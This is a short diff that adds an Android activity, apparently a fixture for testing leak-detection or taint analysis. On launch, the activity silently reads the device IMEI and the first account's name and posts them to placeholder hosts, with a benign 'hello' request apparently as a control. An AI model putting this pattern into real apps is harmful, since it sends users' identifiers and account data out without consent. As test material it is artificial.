@@ -1,0 +1,39 @@
+package p;
+
+import android.accounts.AccountManager;
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.TelephonyManager;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+        post("https://risk.example.com/", phone.getImei());
+        post("https://sync.example.net/", AccountManager.get(this).getAccounts()[0].name);
+        post("https://www.example.org/", "hello");
+    }
+
+    private static void post(String address, String text) {
+        send(address, "[" + text + "]");
+    }
+
+    private static void send(String address, String text) {
+        try {
+            HttpURLConnection connection = (HttpURLConnection) new URL(address + "v1").openConnection();
+            connection.setDoOutput(true);
+            OutputStream out = connection.getOutputStream();
+            out.write(text.getBytes());
+            out.close();
+        } catch (IOException error) {
+            finish(error);
+        }
+    }
+
+    private static void finish(IOException error) {}
+}
